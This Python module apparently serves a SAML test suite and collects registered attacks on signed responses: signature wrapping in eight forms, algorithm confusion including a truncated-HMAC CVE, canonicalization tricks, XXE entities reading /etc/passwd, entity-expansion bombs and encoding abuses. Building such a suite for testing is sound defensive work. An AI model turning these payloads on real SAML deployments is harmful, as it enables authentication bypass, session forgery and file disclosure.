"""Attacks on SAML responses (federation.md 2.10): each takes a signed response and gives bytes or a tree to send.

The forged content names the session `evil`, so that a test recognises it.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
from collections.abc import Callable, Iterator
from typing import Any

from cryptography.hazmat.primitives.serialization import Encoding
from lxml import etree
from saml_world import NS, PREFIX, clone, rsa_key, sign

SAML, SAMLP, DS = (f"{{{NS[name]}}}" for name in ("saml", "samlp", "ds"))
Attack = Callable[[Any], Any]
ATTACKS: dict[str, Attack] = {}


def attack(function: Attack) -> Attack:
    """Register an attack under its name."""
    ATTACKS[function.__name__] = function
    return function


def assertion_of(response: Any) -> Any:
    return response.find(f"{SAML}Assertion")


def signature_of(element: Any) -> Any:
    return element.find(f"{DS}Signature")


def unsigned(element: Any) -> Any:
    """A copy without its own signature."""
    made = clone(element)
    found = signature_of(made)
    if found is not None:
        made.remove(found)
    return made


def forged(assertion: Any, new_id: str | None = "_evil") -> Any:
    """An unsigned copy of an assertion for another session; None keeps the ID."""
    made = unsigned(assertion)
    if new_id is not None:
        made.set("ID", new_id)
    for value in made.iterfind(f".//{SAML}Attribute[@Name='{PREFIX}RoleSessionName']/{SAML}AttributeValue"):
        value.text = "evil"
    made.find(f".//{SAML}NameID").text = "evil"
    return made


def extensions(response: Any, *content: Any) -> Any:
    """`Extensions` with some content, in its place in the response."""
    made = etree.Element(f"{SAMLP}Extensions")
    made.extend(content)
    response.insert(1, made)
    return response


def object_in(signature: Any, *content: Any) -> Any:
    made = etree.SubElement(signature, f"{DS}Object")
    made.extend(content)
    return made


# -- wrapping: the eight forms of Somorovsky et al., each with a new and with the same ID ---------------------------------------


def wrapped(form: int, response: Any, new_id: str | None) -> Any:
    """Signature wrapping. Forms 1 and 2 need a signed Response, the others a signed assertion."""
    if form in (1, 2):
        inner, signature = unsigned(response), clone(signature_of(response))
        outer = unsigned(response)
        if new_id is not None:
            outer.set("ID", new_id)
        outer.replace(assertion_of(outer), forged(assertion_of(outer), None if new_id is None else "_evil_a"))
        if form == 1:
            object_in(signature, inner)
            outer.insert(1, signature)
        else:
            outer.insert(1, signature)
            outer.insert(1, inner)
        return outer
    original = assertion_of(response)
    evil, place = forged(original, new_id), list(response).index(original)
    signature = clone(signature_of(original))
    if form == 3:
        response.insert(place, evil)
    elif form == 4:
        response.remove(original)
        evil.append(original)
        response.append(evil)
    elif form == 5:
        evil.insert(1, signature)
        response.replace(original, evil)
        response.append(unsigned(original))
    elif form == 6:
        object_in(signature, unsigned(original))
        evil.insert(1, signature)
        response.replace(original, evil)
    elif form == 7:
        response.remove(original)
        extensions(response, original)
        response.append(evil)
    else:
        evil.insert(1, signature)
        object_in(signature, original)
        response.remove(original) if original.getparent() is response else None
        response.append(evil)
    return response


def wrappings() -> Iterator[tuple[int, str | None]]:
    """All forms with both kinds of ID."""
    for form in range(1, 9):
        for new_id in ("_evil", None):
            yield form, new_id


# -- structure --------------------------------------------------------------------------------------------------------------


@attack
def doubled_id(response: Any) -> Any:
    extensions(response, etree.Element("x", ID=assertion_of(response).get("ID")))
    return response


@attack
def doubled_id_by_another_name(response: Any) -> Any:
    element = etree.Element("x")
    element.set("{http://www.w3.org/XML/1998/namespace}id", assertion_of(response).get("ID"))
    return extensions(response, element)


@attack
def signature_in_extensions(response: Any) -> Any:
    return extensions(response, clone(signature_of(assertion_of(response))))


@attack
def second_signature(response: Any) -> Any:
    assertion = assertion_of(response)
    assertion.insert(1, clone(signature_of(assertion)))
    return response


@attack
def second_assertion_in_advice(response: Any) -> Any:
    advice = etree.Element(f"{SAML}Advice")
    advice.append(forged(assertion_of(response)))
    assertion = unsigned(assertion_of(response))
    assertion.append(advice)
    response.replace(assertion_of(response), sign(assertion))
    return response


@attack
def bare_assertion(response: Any) -> Any:
    return clone(assertion_of(response))


@attack
def empty_signature(response: Any) -> Any:
    for child in list(signature_of(assertion_of(response))):
        child.getparent().remove(child)
    return response


@attack
def changed_attribute(response: Any) -> Any:
    response.find(f".//{SAML}AttributeValue").text += " "
    response.find(f".//{SAML}NameID").text = "evil"
    return response


@attack
def changed_signature_value(response: Any) -> Any:
    value = response.find(f".//{DS}SignatureValue")
    raw = bytearray(base64.b64decode(value.text))
    raw[7] ^= 1
    value.text = base64.b64encode(bytes(raw)).decode()
    return response


@attack
def broken_response_signature(response: Any) -> Any:
    """Of a response that is signed as well: else the response has no such signature, and any element is changed."""
    signature = signature_of(response)
    if signature is None:
        return changed_attribute(response)
    value = signature.find(f".//{DS}DigestValue")
    value.text = base64.b64encode(bytes(32)).decode()
    return response


@attack
def broken_inner_signature(response: Any) -> Any:
    """The signature of the assertion is broken, that of the response is good."""
    assertion = assertion_of(response)
    signature_of(assertion).find(f".//{DS}DigestValue").text = base64.b64encode(bytes(32)).decode()
    return response if signature_of(response) is None else sign(unsigned(response))


@attack
def rebound_prefix(response: Any) -> Any:
    """An element of another namespace under the usual prefix."""
    text = etree.tostring(response).replace(
        b"<saml:NameID>eva</saml:NameID>", b'<saml:NameID xmlns:saml="urn:x">evil</saml:NameID>'
    )
    return text


@attack
def object_in_signature(response: Any) -> Any:
    object_in(signature_of(assertion_of(response)), etree.Element("x"))
    return response


# -- SignedInfo: these are signed by the right key, with a form that is not accepted ----------------------------------------


def resigned(response: Any, change: Callable[[Any], None]) -> Any:
    """Change `SignedInfo`, then compute digest and signature with the right key, as a careless identity provider would."""
    from cryptography.hazmat.primitives import hashes
    from cryptography.hazmat.primitives.asymmetric import padding

    assertion = assertion_of(response)
    signature = signature_of(assertion)
    info = signature.find(f"{DS}SignedInfo")
    change(info)
    octets = etree.tostring(info, method="c14n", exclusive=True)
    raw = rsa_key().private.sign(octets, padding.PKCS1v15(), hashes.SHA256())
    signature.find(f"{DS}SignatureValue").text = base64.b64encode(raw).decode()
    return response


def reference_of(info: Any) -> Any:
    return info.find(f"{DS}Reference")


@attack
def empty_uri(response: Any) -> Any:
    return resigned(response, lambda info: reference_of(info).set("URI", ""))


@attack
def missing_uri(response: Any) -> Any:
    return resigned(response, lambda info: reference_of(info).attrib.pop("URI"))


@attack
def external_uri(response: Any) -> Any:
    return resigned(response, lambda info: reference_of(info).set("URI", "file:///etc/passwd"))


@attack
def xpointer_uri(response: Any) -> Any:
    return resigned(response, lambda info: reference_of(info).set("URI", "#xpointer(id('_a1'))"))


@attack
def two_references(response: Any) -> Any:
    return resigned(response, lambda info: info.append(clone(reference_of(info))))


@attack
def reference_to_the_response(response: Any) -> Any:
    return resigned(response, lambda info: reference_of(info).set("URI", "#_r1"))


def with_transform(algorithm: str, *content: Any) -> Attack:
    def change(info: Any) -> None:
        transform = etree.SubElement(info.find(f".//{DS}Transforms"), f"{DS}Transform", Algorithm=algorithm)
        transform.extend(content)

    return lambda response: resigned(response, change)


def _xpath() -> Any:
    element = etree.Element(f"{DS}XPath")
    element.text = "not(ancestor-or-self::node()[local-name() = 'AttributeStatement'])"
    return element


ATTACKS["xpath_transform"] = with_transform("http://www.w3.org/TR/1999/REC-xpath-19991116", _xpath())
ATTACKS["xslt_transform"] = with_transform("http://www.w3.org/TR/1999/REC-xslt-19991116")
ATTACKS["base64_transform"] = with_transform("http://www.w3.org/2000/09/xmldsig#base64")
ATTACKS["comments_in_c14n"] = lambda response: resigned(
    response,
    lambda info: info.findall(f".//{DS}Transform")[1].set("Algorithm", "http://www.w3.org/2001/10/xml-exc-c14n#WithComments"),
)
ATTACKS["comments_in_c14n_of_signed_info"] = lambda response: resigned(
    response,
    lambda info: info.find(f"{DS}CanonicalizationMethod").set("Algorithm", "http://www.w3.org/2001/10/xml-exc-c14n#WithComments"),
)
ATTACKS["inclusive_c14n"] = lambda response: resigned(
    response,
    lambda info: info.findall(f".//{DS}Transform")[1].set("Algorithm", "http://www.w3.org/TR/2001/REC-xml-c14n-20010315"),
)
ATTACKS["only_one_transform"] = lambda response: resigned(
    response, lambda info: info.find(f".//{DS}Transforms").remove(info.findall(f".//{DS}Transform")[1])
)
ATTACKS["sha1_signature"] = lambda response: _signed_again(response, algorithm="rsa-sha1")
ATTACKS["sha1_digest"] = lambda response: _signed_again(response, digest="sha1")
ATTACKS["foreign_key"] = lambda response: _signed_again(response, key=rsa_key("other").private)
ATTACKS["foreign_key_in_key_info"] = lambda response: _signed_again(
    response, key=rsa_key("other").private, certificate=rsa_key("other")
)
ATTACKS["hmac_with_the_certificate"] = lambda response: _signed_again(
    response, algorithm="hmac-sha256", key=rsa_key().certificate.public_bytes(Encoding.DER)
)
ATTACKS["hmac_with_the_pem"] = lambda response: _signed_again(
    response, algorithm="hmac-sha256", key=rsa_key().certificate.public_bytes(Encoding.PEM)
)


def _signed_again(response: Any, **options: Any) -> Any:
    response.replace(assertion_of(response), sign(unsigned(assertion_of(response)), **options))
    return response


@attack
def algorithm_none(response: Any) -> Any:
    return resigned(response, lambda info: info.find(f"{DS}SignatureMethod").set("Algorithm", "none"))


@attack
def dsa_algorithm(response: Any) -> Any:
    uri = "http://www.w3.org/2009/xmldsig11#dsa-sha256"
    return resigned(response, lambda info: info.find(f"{DS}SignatureMethod").set("Algorithm", uri))


@attack
def ecdsa_algorithm_for_an_rsa_key(response: Any) -> Any:
    uri = "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256"
    return resigned(response, lambda info: info.find(f"{DS}SignatureMethod").set("Algorithm", uri))


@attack
def hmac_of_zero_bits(response: Any) -> Any:
    """CVE-2009-0217: a truncated HMAC."""

    def change(info: Any) -> None:
        method = info.find(f"{DS}SignatureMethod")
        method.set("Algorithm", "http://www.w3.org/2000/09/xmldsig#hmac-sha1")
        etree.SubElement(method, f"{DS}HMACOutputLength").text = "0"

    made = resigned(response, change)
    info = made.find(f".//{DS}SignedInfo")
    value = hmac.digest(b"", etree.tostring(info, method="c14n", exclusive=True), hashlib.sha1)
    made.find(f".//{DS}SignatureValue").text = base64.b64encode(value).decode()
    return made


# -- text ---------------------------------------------------------------------------------------------------------------------


def replaced(old: bytes, new: bytes) -> Attack:
    def change(response: Any) -> bytes:
        text = etree.tostring(response)
        assert old in text, old
        return text.replace(old, new, 1)

    return change


_ROOT = b"<samlp:Response"
ATTACKS["comment_in_name_id"] = replaced(b">eva</saml:NameID>", b">eva<!-- --></saml:NameID>")
ATTACKS["comment_after_the_root"] = lambda response: etree.tostring(response) + b"<!-- x -->"
ATTACKS["processing_instruction"] = replaced(b">eva</saml:NameID>", b">eva<?x y?></saml:NameID>")
ATTACKS["processing_instruction_before_the_root"] = replaced(_ROOT, b"<?x y?>" + _ROOT)
ATTACKS["doctype_with_a_file"] = replaced(_ROOT, b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + _ROOT)
ATTACKS["doctype_alone"] = replaced(_ROOT, b"<!DOCTYPE r>" + _ROOT)
ATTACKS["undeclared_entity"] = replaced(b">eva</saml:NameID>", b">eva&x;</saml:NameID>")
ATTACKS["nested_entities"] = replaced(
    _ROOT,
    b"<!DOCTYPE r [<!ENTITY a0 'x'>"
    + b"".join(b"<!ENTITY a%d '%s'>" % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 11))
    + b"]>"
    + _ROOT,
)
ATTACKS["parameter_entity"] = replaced(_ROOT, b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://127.0.0.1:9/x"> %p;]>' + _ROOT)
ATTACKS["byte_order_mark"] = lambda response: b"\xef\xbb\xbf" + etree.tostring(response)
ATTACKS["utf_16"] = lambda response: etree.tostring(response).decode().encode("utf-16")
ATTACKS["utf_16_declared_as_utf_8"] = lambda response: (
    b'<?xml version="1.0" encoding="utf-8"?>' + etree.tostring(response).decode().encode("utf-16-le")
)
ATTACKS["utf_7"] = lambda response: b'<?xml version="1.0" encoding="UTF-7"?>' + etree.tostring(response)
ATTACKS["latin_1"] = lambda response: b'<?xml version="1.0" encoding="ISO-8859-1"?>' + etree.tostring(response)
ATTACKS["zero_byte"] = replaced(b">eva<", b">eva\0<")
ATTACKS["not_utf_8"] = replaced(b">eva<", b">ev\xe9<")
ATTACKS["not_xml"] = lambda response: b"hello, world"
ATTACKS["trailing_element"] = lambda response: etree.tostring(response) + b"<x/>"
ATTACKS["65_levels"] = lambda response: extensions(response, etree.fromstring("<x>" * 64 + "</x>" * 64))
ATTACKS["1000_levels"] = lambda response: etree.tostring(response).replace(
    b"<samlp:Status>", b"<x>" * 1000 + b"</x>" * 1000 + b"<samlp:Status>"
)
ATTACKS["65_attributes"] = lambda response: extensions(response, etree.Element("x", {f"a{n}": "" for n in range(65)}))
